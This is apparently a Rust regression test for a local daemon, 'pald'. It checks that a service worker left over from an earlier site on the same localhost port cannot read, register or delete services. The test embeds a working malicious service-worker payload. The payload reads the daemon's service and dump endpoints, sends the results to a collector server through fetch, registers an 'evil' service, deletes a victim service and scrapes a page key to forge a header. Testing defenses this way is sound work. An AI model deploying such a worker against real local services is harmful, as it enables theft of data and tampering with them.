//! A service worker that a site left in the browser at the address where pald listens later.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener};
use std::sync::mpsc::{Sender, channel};
use std::thread::JoinHandle;
use std::time::Duration;

use serde_json::json;

use super::tab::Tab;
use super::{NAMES, SKIPPED, services};
use crate::daemon::Home;
use crate::skip::skip;

/// What each worker does once a page asks for something: it lists, registers and releases, with and
/// without what the page itself sends, and tells a site of its own what it could read.
const ATTACK: &str = r#"
const door = self.registration.scope;
let mine = {};
async function attack() {
    const tell = (text) => fetch(`TELLTALE${encodeURIComponent(text)}`, { mode: "no-cors" }).catch(() => {});
    const more = { "Content-Type": "application/json", ...mine };
    const read = async (path, init) => {
        const reply = await fetch(path, { headers: more, referrer: door, ...init }).catch(() => null);
        return reply ? `${reply.status} ${await reply.text()}` : "";
    };
    tell("ran");
    for (const path of ["/v1/services", "/v1/dump", "/get?service=victim"]) tell(await read(path));
    await read("/v1/services/evil", { method: "PUT" });
    await read("/v1/services/evil", { method: "PUT", mode: "same-origin", credentials: "omit" });
    await read("/set?service=evil");
    await read("/set", { method: "POST", body: "service=evil", headers: { "Content-Type": "application/x-www-form-urlencoded", ...mine } });
    await read("/v1/services/victim", { method: "DELETE" });
    await read("/del?port=VICTIM");
    const page = await read("/");
    const key = /name="key" content="(\w+)"/.exec(page)?.[1];
    if (key) mine = { "Pald-Page": key };
    if (key) tell(`key ${key}`);
}
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
"#;

/// How a worker treats what the page asks for.
const WORKERS: [(&str, &str); 4] = [
    // It lets the browser ask, and looks at what the page sends.
    (
        "looks on",
        r#"addEventListener("fetch", (event) => {
            const key = event.request.headers.get("Pald-Page");
            if (key) mine = { "Pald-Page": key };
            event.waitUntil(attack());
        });"#,
    ),
    // It asks itself, and looks at the answers.
    (
        "passes on",
        r#"addEventListener("fetch", (event) => {
            if (!event.request.url.startsWith(door)) return;
            event.respondWith(fetch(event.request).then(async (reply) => {
                const key = /name="key" content="(\w+)"/.exec(await reply.clone().text())?.[1];
                if (key) mine = { "Pald-Page": key };
                attack();
                return reply;
            }));
        });"#,
    ),
    // It asks first and lets the browser wait.
    (
        "comes first",
        r#"addEventListener("fetch", (event) => {
            if (event.request.mode === "navigate")
                event.respondWith(attack().then(() => fetch(event.request)).then((reply) => (attack(), reply)));
        });"#,
    ),
    // It goes on for a while.
    (
        "stays",
        r#"addEventListener("fetch", (event) => {
            if (event.request.mode !== "navigate") return;
            event.waitUntil((async () => {
                for (let i = 0; i < 20; i++) {
                    await attack();
                    await new Promise((done) => setTimeout(done, 100));
                }
            })());
        });"#,
    ),
];

/// The site that has the port before pald, until it is dropped.
struct EarlierSite(Option<JoinHandle<()>>, u16);

impl EarlierSite {
    fn start(port: u16, worker: String) -> Self {
        let page = "<script>navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => (document.title = 'ready'))</script>";
        // pald listens there at once after it: no connection of it may be left.
        let socket =
            socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
        socket.set_reuse_address(true).unwrap();
        socket.bind(&std::net::SocketAddr::from((Ipv4Addr::LOCALHOST, port)).into()).unwrap();
        socket.listen(16).unwrap();
        let listener: TcpListener = socket.into();
        let serve = move || {
            for mut stream in listener.incoming().map_while(Result::ok) {
                stream.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
                let mut request = [0; 4096];
                let Ok(length @ 1..) = stream.read(&mut request) else { continue };
                let request = String::from_utf8_lossy(&request[..length]).into_owned();
                let (kind, body) = match request.split(' ').nth(1).unwrap_or_default() {
                    "/stop" => break,
                    "/sw.js" => ("text/javascript", worker.as_str()),
                    _ => ("text/html", page),
                };
                let length = body.len();
                let _ = write!(
                    stream,
                    "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
                );
            }
        };
        Self(Some(std::thread::spawn(serve)), port)
    }
}

impl Drop for EarlierSite {
    fn drop(&mut self) {
        let mut stream = std::net::TcpStream::connect((Ipv4Addr::LOCALHOST, self.1)).unwrap();
        let _ = stream.write_all(b"GET /stop HTTP/1.0\r\n\r\n");
        let _ = self.0.take().map(JoinHandle::join);
    }
}

/// A site to which the workers tell what they could read.
fn telltale(told: Sender<String>) -> crate::hostile_page::server::Server {
    crate::hostile_page::server::Server::start(move |request| {
        if let Some((_, text)) = request.query().next() {
            let _ = told.send(text);
        }
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_vec()
    })
}

#[test]
fn a_left_over_service_worker_lists_registers_and_releases_nothing() {
    for (name, worker) in WORKERS {
        let home = Home::new(9);
        let (sender, told) = channel();
        let site = telltale(sender);
        let victim = home.min;
        let script = ATTACK
            .replace("TELLTALE", &format!("http://127.0.0.1:{}/?text=", site.port))
            .replace("VICTIM", &victim.to_string());
        let earlier = EarlierSite::start(home.listen, format!("{script}{worker}"));
        let address = format!("http://localhost:{}/", home.listen);
        let Some(tab) = Tab::open(&address) else { return skip(SKIPPED) };
        tab.wait("return document.title === 'ready'");
        tab.go("about:blank");
        drop(earlier);

        let daemon = home.start();
        assert_eq!(daemon.set("victim").port(), victim);
        let before = services(&daemon.client);
        tab.go(&address);
        // The page is shown and goes on, without the worker.
        tab.wait("return document.querySelector('tbody .name') !== null");
        assert_eq!(tab.js(NAMES), json!(["victim"]), "{name}");
        let left = tab.js_later("const [done] = arguments; navigator.serviceWorker.getRegistrations().then((all) => done(all.length))");
        assert_eq!(left, json!(0), "{name}");
        tab.write("#name", "mine");
        tab.click("document.querySelector('#register button')");
        tab.wait("return document.querySelectorAll('tbody .name').length === 2");
        tab.go(&address);
        tab.wait("return document.querySelectorAll('tbody .name').length === 2");

        let after = services(&daemon.client);
        assert_eq!(after[0], before[0], "{name}");
        assert_eq!(after.as_array().unwrap().len(), 2, "{name}: {after}");
        drop(tab);
        let told: Vec<String> = told.try_iter().collect();
        assert!(told.iter().any(|text| text == "ran"), "{name}: the worker did nothing");
        let read: Vec<_> = told
            .iter()
            .filter(|text| *text != "ran" && !text.starts_with("403 ") && !text.is_empty())
            .collect();
        assert!(read.is_empty(), "{name}: {read:?}");
    }
}
